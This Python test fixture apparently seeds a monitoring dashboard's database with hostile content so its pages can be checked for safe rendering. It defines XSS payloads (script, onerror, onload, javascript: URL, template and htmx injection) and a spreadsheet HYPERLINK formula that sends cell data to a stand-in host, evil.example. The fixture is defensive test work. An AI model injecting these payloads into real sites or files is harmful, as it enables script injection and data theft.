"""What the web could send to harm a reader, put into a store: scripts, formulas, and a bit of everything else."""

import hashlib
import json
from datetime import datetime, timedelta

import zstandard
from sqlmodel import col, select

from monitor.daemon.nightly import keep_figures
from monitor.store import alerts
from monitor.store.database import Database
from monitor.store.tables import (
    Body,
    Event,
    GradeRow,
    Note,
    Probe,
    QuestionRow,
    ReadingRow,
    Response,
    Run,
    RunCall,
    RunMessages,
    RunVerdict,
)
from monitor.web.figures import iso

__all__ = ["FORMULA", "HOSTILE", "plant_all"]

HOSTILE = (
    "<script>window.planted = 1; alert(1)</script><img src=x onerror=\"window.planted=1\"> "
    "<svg onload=window.planted=1>"
    "<a href=\"javascript:window.planted=1\">x</a> {{ 7 * 7 }} <b hx-get='/x' hx-trigger='load'>\u202e"
)
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"price")'


def plant_all(database: Database, now: datetime) -> tuple[dict[str, str], str, str]:
    """Fill in what the sandbox's day lacks; give every kind of page, and those with a script and with a formula."""
    with database.write() as session:
        probes = session.exec(
            select(Probe).join(GradeRow, col(GradeRow.probe_id) == col(Probe.id)).where(GradeRow.class_ == "target")
            .order_by(col(Probe.id).desc()).limit(2)
        ).all()  # fmt: skip
        for probe, text in zip(probes, (HOSTILE, FORMULA), strict=True):
            _answer(session, probe, text)
        incident = alerts.raise_(session, f"account:{probes[0].api}", HOSTILE, now, detail={"said": HOSTILE}).id
        alerts.raise_(session, "host_clock", "the host's clock is off by +900 ms", now - timedelta(hours=1))
        session.add(Event(at=now - timedelta(hours=2), kind="start", message=FORMULA))
        session.add(Note(name="job:digest", at=now - timedelta(minutes=2), value={"read": 12, "graded": 11}))
        run = _run(session, now)
        script, formula = (f"/probes/{probe.id}" for probe in probes)
        api, item, at = probes[0].api, probes[0].item_id, probes[0].instant_at
    keep_figures(database, now)
    pages = {
        "overview": "/", "apis": "/apis", "api": f"/apis/{api}", "items": "/items", "item": f"/items/{item}",
        "instants": "/instants", "instant": f"/instants/{iso(at)}", "probes": "/probes", "probe": script,
        "nightly": "/nightly", "run": f"/runs/{run}", "running": "/running", "settings": "/settings",
        "charts": "/charts", "compare": "/compare?a=sbx_fast&b=sbx_five_min", "chart": "/charts/classes",
        "incident": f"/incidents/{incident}", "missing": "/nothing",
    }  # fmt: skip
    return pages, script, formula


def _answer(session, probe: Probe, text: str) -> None:
    response = session.exec(select(Response).where(Response.probe_id == probe.id)).one()
    reading = session.exec(select(ReadingRow).where(ReadingRow.probe_id == probe.id)).first()
    body = session.get(Body, response.body_id)
    document = json.loads(zstandard.ZstdDecompressor().decompress(body.zstd))
    _spoil(document, text, f"{reading.price:.10g}")
    raw = json.dumps(document).encode()
    body.sha256, body.size = hashlib.sha256(raw).hexdigest(), len(raw)
    body.zstd = zstandard.ZstdCompressor().compress(raw)
    reading.note = text
    probe.query = probe.reason = text
    session.add_all([body, reading, probe])


def _spoil(value, text: str, price: str) -> None:
    """Put `text` and the price into every text of a document, however that is built."""
    for key in value if isinstance(value, dict) else range(len(value)):
        inner = value[key]
        if isinstance(inner, dict | list):
            _spoil(inner, text, price)
        elif isinstance(inner, str) and " " in inner:
            value[key] = f"{text} trades at {price} {inner}"


def _run(session, now: datetime) -> int:
    question = QuestionRow(question_set="historical-lookup", question_id="historical-001", sha256="a" * 64,
                           question="What did it cost?", answer="$5.00", tolerance="1 %", area="prices")  # fmt: skip
    session.add(question)
    session.flush()
    run = Run(night="2026-11-25", question_set="historical-lookup", question_id="historical-001", repeat=0,
              question_row_id=question.id, api="sbx_fast", agent="extractive", baseline=True, state="answered",
              finish="answered", answer=HOSTILE, searches=1, latency_ms=812.0, search_usd=0.005, planned_at=now,
              ended_at=now)  # fmt: skip
    session.add(run)
    session.flush()
    messages = json.dumps([{"kind": "request", "parts": [{"content": HOSTILE}]}]).encode()
    session.add(RunMessages(run_id=run.id, messages=1, size=len(messages),
                            zstd=zstandard.ZstdCompressor().compress(messages)))  # fmt: skip
    session.add(RunCall(run_id=run.id, kind="search", seq=1, query=FORMULA, state="answered", booked_at=now, hits=3,
                        latency_ms=400.0, cost_usd=0.005))  # fmt: skip
    session.add(RunVerdict(run_id=run.id, grader="rules", version="1", question_row_id=question.id, graded_at=now,
                           verdict="incorrect", reason=HOSTILE))  # fmt: skip
    session.flush()
    return run.id
